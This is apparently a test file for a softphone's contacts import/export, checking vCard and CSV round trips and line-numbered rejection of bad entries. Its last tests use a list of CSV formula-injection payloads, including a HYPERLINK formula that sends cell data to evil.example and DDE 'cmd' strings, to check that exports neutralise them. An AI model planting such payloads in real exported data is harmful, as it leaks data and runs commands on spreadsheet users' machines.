"""Personal contacts import/export: vCard and CSV round trips, bad lines reported by number."""

from __future__ import annotations

import csv
import io

from softphone.directory.importexport import ImportFormat, export, parse_import
from softphone.directory.vcard import split_cards
from softphone.domain.directory import Contact, ContactNumber, ContactSource

VCARDS = """BEGIN:VCARD
VERSION:3.0
N:Dupré;Hélène;;;
FN:Hélène Dupré
ORG:Acme SA
TEL;TYPE=CELL:+41 79 555 12 34
TEL;TYPE=WORK,VOICE:044 123 45 67
END:VCARD
BEGIN:VCARD
VERSION:3.0
FN:No Numbers But Named
END:VCARD
BEGIN:VCARD
VERSION:4.0
N:;;;;
TEL;VALUE=uri;TYPE=cell:tel:+41791112233
END:VCARD
BEGIN:VCARD
VERSION:3.0
N:Bad;Number;;;
TEL:call me maybe
END:VCARD
BEGIN:VCARD
VERSION:4.0
N:Weber;Jürg;;;
TEL;VALUE=uri;TYPE=work:tel:+41-44-999-00-00
TEL;TYPE=home:1003
END:VCARD
BEGIN:VCARD
this is :not a ; vcard line without colon
N
END:VCARD
"""


def test_vcard_import_keeps_good_cards_and_reports_bad_ones() -> None:
    result = parse_import(ImportFormat.VCARD, VCARDS)
    assert [c.name() for c in result.contacts] == [
        "Hélène Dupré",
        "No Numbers But Named",
        "Jürg Weber",
    ]
    helene = result.contacts[0]
    assert [(n.label, n.number) for n in helene.numbers] == [
        ("mobile", "+41 79 555 12 34"),
        ("office", "044 123 45 67"),
    ]
    assert helene.org == "Acme SA"
    assert result.contacts[2].numbers[0].number == "+41-44-999-00-00"
    assert all(c.source is ContactSource.PERSONAL and c.uid for c in result.contacts)
    assert [(r.line, r.reason) for r in result.rejected] == [
        (13, "no_name"),
        (18, "invalid_number"),
        (29, "malformed_vcard"),
    ]


def test_csv_import_reports_bad_lines() -> None:
    data = (
        "First Name,Last Name,Company,Mobile Phone,Business Phone\n"
        'Hélène,Dupré,Acme,+41 79 555 12 34,"044 123 45 67 ; 1001"\n'
        ",,Nobody Inc,0441111111,\n"
        "John,Muller,,not-a-number!,\n"
        "\n"
        "Anna,Adams,,,1002\n"
        '"Broken,quote\n'
    )
    result = parse_import(ImportFormat.CSV, data)
    assert [c.name() for c in result.contacts] == ["Hélène Dupré", "Anna Adams"]
    assert [(n.label, n.number) for n in result.contacts[0].numbers] == [
        ("mobile", "+41 79 555 12 34"),
        ("office", "044 123 45 67"),
        ("office", "1001"),
    ]
    reasons = [(r.line, r.reason) for r in result.rejected]
    assert reasons[:2] == [(3, "no_name"), (4, "invalid_number")]
    assert result.rejected_count == len(result.rejected) == 3


def test_csv_without_a_name_column_is_rejected_whole() -> None:
    result = parse_import(ImportFormat.CSV, "foo,bar\n1,2\n")
    assert result.contacts == [] and [(r.line, r.reason) for r in result.rejected] == [
        (1, "malformed_csv")
    ]


def _sample() -> list[Contact]:
    return [
        Contact(
            ContactSource.PERSONAL,
            "u1",
            given="Hélène",
            family="Dupré",
            org="Acme, SA",
            email="h@example.org",
            numbers=(ContactNumber("mobile", "+41795551234"), ContactNumber("office", "1001")),
        ),
        Contact(ContactSource.PERSONAL, "u2", display="Reception"),
    ]


def _shape(contacts: list[Contact]) -> list[tuple[object, ...]]:
    return [
        (c.name(), c.org, c.email, tuple((n.label, n.number) for n in c.numbers)) for c in contacts
    ]


def test_vcard_export_round_trips() -> None:
    text = export(ImportFormat.VCARD, _sample())
    assert len(list(split_cards(text))) == 2
    again = parse_import(ImportFormat.VCARD, text)
    assert again.rejected == [] and _shape(again.contacts) == _shape(_sample())


def test_csv_export_round_trips() -> None:
    text = export(ImportFormat.CSV, _sample())
    again = parse_import(ImportFormat.CSV, text)
    assert again.rejected == [] and _shape(again.contacts) == _shape(_sample())


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
    "'plain apostrophe",
    'Quote "inside", comma; semicolon =1+1',
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _hostile() -> list[Contact]:
    return [
        Contact(
            ContactSource.PERSONAL,
            f"h{i}",
            given=name,
            family="=1+1" if i % 2 else "",
            display=name,
            org="@org",
            email="-x@example.org",
            numbers=(ContactNumber("mobile", "+41 79 555 12 34"), ContactNumber("office", "1001")),
        )
        for i, name in enumerate(HOSTILE_NAMES)
    ]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_export_starts_no_cell_with_a_formula_character() -> None:
    text = export(ImportFormat.CSV, _hostile())
    rows = _cells(text)
    assert len(rows) == 1 + len(HOSTILE_NAMES)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    # Phone numbers get the quote too (OWASP), and every cell is in double quotes so a
    # spreadsheet splitting on ";" finds no new cell inside a name.
    assert rows[1][5] == "'+41 79 555 12 34"
    assert all(line.startswith('"') for line in text.split("\r\n")[:-1])


def test_csv_export_of_hostile_names_round_trips_exactly() -> None:
    text = export(ImportFormat.CSV, _hostile())
    assert "\"'=HYPERLINK(" in text and "\"'''+twice\"" in text  # neutralised in the file
    again = parse_import(ImportFormat.CSV, text)
    assert again.rejected == []
    # Import trims blanks around a cell, as it always did: "\t=1+1" comes back "=1+1".
    assert [(c.given, c.family, c.display, c.org, c.email) for c in again.contacts] == [
        tuple(f.strip() for f in (c.given, c.family, c.display, c.org, c.email)) for c in _hostile()
    ]
    assert {tuple((n.label, n.number) for n in c.numbers) for c in again.contacts} == {
        (("mobile", "+41 79 555 12 34"), ("office", "1001"))
    }


def test_csv_import_takes_the_quote_off_formula_like_cells_only() -> None:
    data = "Name,Mobile\n'=Ann,'+41 79 555 12 34\n'Bob,'1001\n"
    result = parse_import(ImportFormat.CSV, data)
    assert [(c.display, [n.number for n in c.numbers]) for c in result.contacts] == [
        ("=Ann", ["+41 79 555 12 34"])
    ]
    # "'1001" was not written by a quoting export: the quote is data, and no number.
    assert [(r.line, r.reason) for r in result.rejected] == [(3, "invalid_number")]
